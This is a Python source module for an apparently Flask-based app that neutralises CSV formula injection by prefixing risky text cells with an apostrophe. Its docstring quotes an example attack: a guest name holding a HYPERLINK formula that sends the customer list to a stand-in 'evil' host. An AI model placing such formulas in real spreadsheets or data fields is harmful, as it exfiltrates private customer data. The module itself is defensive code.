"""Every CSV file Comptoir writes goes through ``writer()``: no cell can become a formula.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or a
carriage return) as a formula: a guest named ``=HYPERLINK("http://evil/?"&A1;"Voir")`` would
otherwise send the hub's customer list away when the hub opens its report (CSV injection,
OWASP). Such a text cell is written with a leading apostrophe, which spreadsheets show as text
and hide.

What is text and what is a number is decided by type, not by looking at the text:

- ``str`` cells are text that may come from a user: neutralised;
- ``int``, ``Decimal``, ``float``, dates, None: written as they are (``-12.50`` stays a number);
- ``Number("-12,50")``: a number we formatted ourselves (decimal comma, sign): written as is.

``unescape()`` undoes the apostrophe on import, so that our own catalogue export re-imports
unchanged (``products.csv_io``).
"""

from __future__ import annotations

import csv
from collections.abc import Hashable, Iterable, Sequence
from typing import Any

from flask import Response

#: what makes a spreadsheet read a cell as a formula (LF too: some read the next line)
FORMULA_START = frozenset("=+-@\t\r\n")
ESCAPE = "'"


class Number(str):
    """A number we formatted ourselves ("-12,50", "1,250"): not user text, written as is."""

    __slots__ = ()


def cell(value: Any) -> Any:
    """``value`` as written: a text cell that a spreadsheet would run is prefixed with ``'``."""
    if value.__class__ is str and value[:1] in FORMULA_START:
        return ESCAPE + value
    return value


def unescape(text: str) -> str:
    """The text a cell written by ``cell()`` held (for our own imports)."""
    if text[:1] == ESCAPE and text[1:2] in FORMULA_START:
        return text[1:]
    return text


def unescape_row(row: list[str]) -> list[str]:
    """``unescape()`` of each cell of a row read back."""
    return [t[1:] if t[:1] == ESCAPE and t[1:2] in FORMULA_START else t for t in row]


class SafeWriter:
    """``csv.writer`` whose every cell goes through ``cell()``."""

    __slots__ = ("_writer",)

    def __init__(self, out: Any, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(_cells(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        self._writer.writerows(map(_cells, rows))

    def writecolumns(self, columns: Sequence[Sequence[Hashable]]) -> None:
        """Rows given as columns (long reports): each distinct value of a column goes through
        ``cell()`` once, every cell is then a dictionary lookup (a column holds one kind of
        value: text, or ``Number``)."""
        safe: list[Iterable[Any]] = []
        for values in columns:
            risky = {v: cell(v) for v in set(values) if cell(v) is not v}
            safe.append(map(risky.get, values, values) if risky else values)
        self._writer.writerows(zip(*safe, strict=True))


def _cells(
    row: Iterable[Any],
    _str: type[str] = str,
    _start: frozenset[str] = FORMULA_START,
    _escape: str = ESCAPE,
) -> list[Any]:
    """``cell()`` of each value, inlined (reports write hundreds of thousands of cells)."""
    return [_escape + v if v.__class__ is _str and v[:1] in _start else v for v in row]


def writer(out: Any, **options: Any) -> SafeWriter:
    """The one way to write CSV in Comptoir (same options as ``csv.writer``)."""
    return SafeWriter(out, **options)


def download(body: str, name: str) -> Response:
    """``body`` as a CSV file called ``name`` to download, with a byte order mark: spreadsheets
    then open the accents right."""
    return Response(
        "\ufeff" + body,
        mimetype="text/csv",
        headers={"Content-Disposition": f'attachment; filename="{name}"'},
    )
